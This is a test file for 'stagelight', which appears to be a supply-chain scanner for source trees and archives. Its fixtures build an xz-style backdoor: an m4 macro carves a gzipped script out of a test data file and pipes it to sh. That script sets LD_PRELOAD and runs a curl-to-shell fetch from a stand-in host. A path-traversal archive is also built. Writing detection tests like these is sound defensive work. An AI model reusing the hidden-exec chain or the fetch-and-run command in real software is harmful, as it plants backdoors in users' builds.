import { execFileSync } from 'node:child_process'
import { mkdirSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { gzipSync } from 'node:zlib'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import type { Report } from '../../src/index.js'
import { stagelight } from '../helpers/cli.js'
import { committedTree } from '../helpers/git-tree.js'
import { sarifErrors } from '../helpers/sarif.js'

let root: string
let project: string

/** A small autotools project whose vendored macro extracts a script hidden in a test file and runs it. */
const MACRO = `# helper.m4 serial 3
AC_DEFUN([HELPER_INIT], [
  AC_REQUIRE([AC_CANONICAL_HOST])
  case "$host_cpu" in
    x86_64)
      helper_src="$srcdir/tests/corpus/sample-7.dat"
      helper_len=\`wc -c < "$helper_src"\`
      helper_step1="tail -c +17 $helper_src"
      helper_step2="gzip -dc"
      ( eval $helper_step1 | eval $helper_step2 ) | sh >/dev/null 2>&1
      ;;
  esac
])
`

function git(cwd: string, ...args: string[]): string {
  return execFileSync('git', args, {
    cwd,
    encoding: 'utf8',
    env: { ...process.env, GIT_AUTHOR_NAME: 'T', GIT_AUTHOR_EMAIL: 't@example.org', GIT_COMMITTER_NAME: 'T', GIT_COMMITTER_EMAIL: 't@example.org' },
  })
}

async function scanJson(args: readonly string[]): Promise<{ code: number | null; report: Report; stderr: string }> {
  const r = await stagelight(['scan', ...args, '--format', 'json', '--cache-dir', join(root, 'cache')], { cwd: root })
  let report: Report
  try {
    report = JSON.parse(r.stdout) as Report
  } catch {
    throw new Error(`not JSON (exit ${r.code}): ${r.stdout.slice(0, 400)} ${r.stderr.slice(0, 400)}`)
  }
  return { code: r.code, report, stderr: r.stderr }
}

const ids = (report: Report): string[] => [...new Set(report.findings.map((f) => f.ruleId))].sort()

beforeAll(() => {
  root = mkdtempSync(join(tmpdir(), 'stagelight-scan-'))
  project = join(root, 'widget')
  for (const dir of ['m4', 'src', 'tests/corpus']) mkdirSync(join(project, dir), { recursive: true })
  writeFileSync(join(project, 'configure.ac'), 'AC_INIT([widget], [1.0])\nAM_INIT_AUTOMAKE([foreign])\nHELPER_INIT\nAC_PROG_CC\nAC_CONFIG_FILES([Makefile])\nAC_OUTPUT\n')
  writeFileSync(join(project, 'Makefile.am'), 'bin_PROGRAMS = widget\nwidget_SOURCES = src/main.c\n')
  writeFileSync(join(project, 'src/main.c'), 'int main(void) { return 0; }\n')
  writeFileSync(join(project, 'm4/helper.m4'), MACRO)
  // 16 bytes of noise, then a gzip stream of a shell script: what the macro carves out and runs
  const payload = gzipSync(Buffer.from('#!/bin/sh\nexport LD_PRELOAD=/tmp/.hook.so\ncurl -s http://203.0.113.9/k | sh\n'))
  writeFileSync(join(project, 'tests/corpus/sample-7.dat'), Buffer.concat([Buffer.from('0123456789abcdef'), payload]))
  writeFileSync(join(project, 'tests/corpus/clean.txt'), 'hello\n')
  writeFileSync(join(project, 'tests/run.sh'), '#!/bin/sh\ndiff "$srcdir/corpus/clean.txt" out.txt\n')
  git(project, 'init', '-q', '-b', 'main')
  git(project, 'add', '-A')
  git(project, 'commit', '-q', '-m', 'widget 1.0')
  git(project, 'tag', 'v1.0')
  execFileSync('tar', ['-cJf', join(root, 'widget-1.0.tar.xz'), '--exclude=.git', '-C', root, 'widget'])
  // the same project without the macro and the payload
  const clean = join(root, 'clean')
  mkdirSync(join(clean, 'src'), { recursive: true })
  writeFileSync(join(clean, 'configure.ac'), 'AC_INIT([widget], [1.0])\nAM_INIT_AUTOMAKE([foreign])\nAC_PROG_CC\nAC_OUTPUT\n')
  writeFileSync(join(clean, 'src/main.c'), 'int main(void) { return 0; }\n')
}, 900_000)

afterAll(() => rmSync(root, { recursive: true, force: true }))

describe('scan on directories, git refs and archives', () => {
  it('finds the carving-and-exec chain and the code hidden in the test file of a directory, with evidence', async () => {
    const { code, report } = await scanJson(['widget'])
    expect(code).toBe(1)
    expect(report.command).toBe('scan')
    expect(report.verdict).toBe('fail')
    const chain = report.findings.find((f) => f.ruleId === 'scan/obfuscated-execution-chain')
    expect(chain?.path).toBe('m4/helper.m4')
    expect(chain?.severity).toBe('critical')
    expect(chain?.evidence).toContain('tail -c +17')
    const data = report.findings.find((f) => f.ruleId === 'data/executable-content')
    expect(data?.path).toBe('tests/corpus/sample-7.dat')
    expect(['high', 'critical']).toContain(data?.severity)
    expect(data?.evidence ?? '').toMatch(/gzip/i)
    // the build step names the file, so the data finding carries the referencing line
    expect(JSON.stringify(data)).toContain('m4/helper.m4')
    expect(report.findings.some((f) => f.path === 'src/main.c' || f.path === 'tests/corpus/clean.txt')).toBe(false)
  })

  it('reports the same rules for the same tree read from a git tag and from a tar.xz', async () => {
    const fromDir = ids((await scanJson(['widget'])).report)
    const fromGit = await scanJson(['widget@v1.0'])
    expect(fromGit.report.facts.some((f) => f.label === 'ref' && f.value.startsWith('v1.0'))).toBe(true)
    expect(ids(fromGit.report)).toEqual(fromDir)
    const fromArchive = await scanJson(['widget-1.0.tar.xz'])
    expect(ids(fromArchive.report)).toEqual(fromDir)
    expect(fromArchive.report.findings.find((f) => f.ruleId === 'data/executable-content')?.path).toBe('tests/corpus/sample-7.dat')
  })

  it('honours --rule and --skip-rule, by id and by family', async () => {
    const only = await scanJson(['widget', '--rule', 'data/*'])
    expect(ids(only.report).every((id) => id.startsWith('data/'))).toBe(true)
    expect(ids(only.report)).toContain('data/executable-content')
    const skipped = await scanJson(['widget', '--skip-rule', 'data/', '--skip-rule', 'scan/obfuscated-execution-chain'])
    expect(ids(skipped.report).some((id) => id.startsWith('data/') || id === 'scan/obfuscated-execution-chain')).toBe(false)
    expect(ids(skipped.report)).toContain('scan/data-to-shell-pipeline')
  })

  it('passes a clean tree: the same project without the macro and the payload', async () => {
    const { code, report } = await scanJson(['clean'])
    expect(code).toBe(0)
    expect(report.verdict).toBe('pass')
    expect(report.findings.filter((f) => f.severity !== 'info')).toEqual([])
  })

  it('knows a git ref holds the source people wrote: a source configure writes over is high there, low in a directory that may be a release', async () => {
    committedTree(
      join(root, 'rewriter'),
      { 'configure.ac': 'AC_INIT([rewriter], [1.0])\ncp "$srcdir/NEWS" "$srcdir/src/main.c"\nAC_OUTPUT\n', 'src/main.c': 'int main(void) { return 0; }\n', NEWS: 'rewriter 1.0\n' },
      'rewriter 1.0',
    )
    const severity = (report: Report): string | undefined => report.findings.find((f) => f.ruleId === 'scan/source-rewritten')?.severity
    expect(severity((await scanJson(['rewriter@HEAD'])).report)).toBe('high')
    expect(severity((await scanJson(['rewriter'])).report)).toBe('low')
  })

  it('judges the same idiom one step lower in a test script or a script run by hand than in the build', async () => {
    const placed = join(root, 'placed')
    const idiom = '#!/bin/sh\nsed "r\\n" "$1" > copy\n'
    for (const dir of ['build-aux', 'tests', 'examples']) {
      mkdirSync(join(placed, dir), { recursive: true })
      writeFileSync(join(placed, dir, 'copy.sh'), idiom)
    }
    const { report } = await scanJson(['placed'])
    const severityAt = (path: string): string | undefined => report.findings.find((f) => f.ruleId === 'scan/sed-as-cat' && f.path === path)?.severity
    expect(severityAt('build-aux/copy.sh')).toBe('medium')
    expect(severityAt('tests/copy.sh')).toBe('low')
    expect(severityAt('examples/copy.sh')).toBe('low')
  })

  it('rejects bad input with one line and exit 2: missing path, unknown rule, corrupt archive, unknown ref', async () => {
    const missing = await stagelight(['scan', 'no-such-dir'], { cwd: root })
    expect(missing.code).toBe(2)
    expect(missing.stderr.trim().split('\n')).toHaveLength(1)
    expect(missing.stderr).toContain('no-such-dir')
    const rule = await stagelight(['scan', 'widget', '--rule', 'scan/no-such-rule'], { cwd: root })
    expect(rule.code).toBe(2)
    expect(rule.stderr).toContain('no rule matches')
    writeFileSync(join(root, 'broken.tar.gz'), gzipSync(Buffer.alloc(2000, 7)).subarray(0, 60))
    const corrupt = await stagelight(['scan', 'broken.tar.gz'], { cwd: root })
    expect(corrupt.code).toBe(2)
    const ref = await stagelight(['scan', 'widget', '--ref', 'v9.9'], { cwd: root })
    expect(ref.code).toBe(2)
    expect(ref.stderr).toContain('v9.9')
  })

  it('reports a traversal entry of a hostile archive as a finding and keeps scanning', async () => {
    const work = join(root, 'hostile')
    mkdirSync(join(work, 'pkg'), { recursive: true })
    writeFileSync(join(work, 'pkg/ok.sh'), '#!/bin/sh\necho ok\n')
    writeFileSync(join(work, 'evil.sh'), '#!/bin/sh\necho evil\n')
    execFileSync('tar', ['-czf', join(root, 'hostile.tar.gz'), '-C', work, '--transform', 's,^evil.sh,pkg/../../evil.sh,', 'pkg', 'evil.sh'])
    const { code, report } = await scanJson(['hostile.tar.gz'])
    expect(code).toBe(1)
    expect(report.findings.find((f) => f.ruleId === 'archive/path-traversal')?.severity).toMatch(/high|critical/)
    expect(report.summary.files).toBeGreaterThanOrEqual(1)
  })
})

describe('scan reports in SARIF and Markdown', () => {
  it('writes SARIF 2.1.0 that the official schema accepts, with rule metadata, relative locations and stable fingerprints', async () => {
    const run = () => stagelight(['scan', 'widget', '--format', 'sarif'], { cwd: root })
    const first = await run()
    expect(first.code).toBe(1)
    expect(sarifErrors(first.stdout)).toEqual([])
    const log = JSON.parse(first.stdout) as { runs: { tool: { driver: { rules: { id: string; help?: { text: string }; defaultConfiguration?: { level: string } }[] } }; results: { ruleId: string; ruleIndex: number; level: string; locations: { physicalLocation?: { artifactLocation: { uri: string }; region?: { startLine: number } } }[]; partialFingerprints: Record<string, string> }[] }[] }
    const [sarifRun] = log.runs
    const rules = sarifRun?.tool.driver.rules ?? []
    const results = sarifRun?.results ?? []
    expect(results.length).toBeGreaterThan(2)
    for (const r of results) {
      expect(rules[r.ruleIndex]?.id).toBe(r.ruleId)
      const physical = r.locations[0]?.physicalLocation
      expect(physical?.artifactLocation.uri).not.toMatch(/^\/|^[a-z]+:/)
      if (physical?.region) expect(physical.region.startLine).toBeGreaterThanOrEqual(1)
    }
    const chain = results.find((r) => r.ruleId === 'scan/obfuscated-execution-chain')
    expect(chain?.level).toBe('error')
    expect(chain?.locations[0]?.physicalLocation?.artifactLocation.uri).toBe('m4/helper.m4')
    expect(rules.find((r) => r.id === 'data/executable-content')?.help?.text).toMatch(/Why it matters/)
    const again = JSON.parse((await run()).stdout) as typeof log
    expect(again.runs[0]?.results.map((r) => r.partialFingerprints)).toEqual(results.map((r) => r.partialFingerprints))
  })

  it('writes a Markdown summary with the verdict, a findings table and the evidence of serious findings', async () => {
    const md = (await stagelight(['scan', 'widget', '--format', 'markdown'], { cwd: root })).stdout
    expect(md.split('\n')[0]).toMatch(/^### stagelight scan: .*FAIL — \d+ critical/)
    expect(md).toContain('| severity | rule | where | finding |')
    expect(md).toMatch(/\| critical \| `scan\/obfuscated-execution-chain` \| `m4\/helper\.m4:\d+` \|/)
    expect(md).toContain('<details><summary><b>critical</b>')
    expect(md).toContain('tail -c +17')
    const clean = (await stagelight(['scan', 'clean', '--format', 'markdown'], { cwd: root })).stdout
    expect(clean.split('\n')[0]).toMatch(/PASS — no findings$/)
    expect(clean).not.toContain('| severity |')
  })
})

describe('stagelight rules', () => {
  it('lists every rule with its severity, and documents one in full', async () => {
    const list = await stagelight(['rules'])
    expect(list.code).toBe(0)
    for (const id of ['scan/data-to-shell-pipeline', 'scan/weakened-defences', 'data/executable-content', 'npm/install-script']) expect(list.stdout).toContain(id)
    const one = await stagelight(['rules', 'scan/sed-as-cat'])
    expect(one.stdout).toContain('Why:')
    expect(one.stdout).not.toContain('scan/byte-carving')
    const json = JSON.parse((await stagelight(['rules', 'npm/*', '--format', 'json'])).stdout) as { id: string; motivation: string }[]
    expect(json.length).toBeGreaterThan(3)
    expect(json.every((r) => r.id.startsWith('npm/') && r.motivation.length > 20)).toBe(true)
    expect((await stagelight(['rules', 'nothing/like-this'])).code).toBe(2)
  })
})
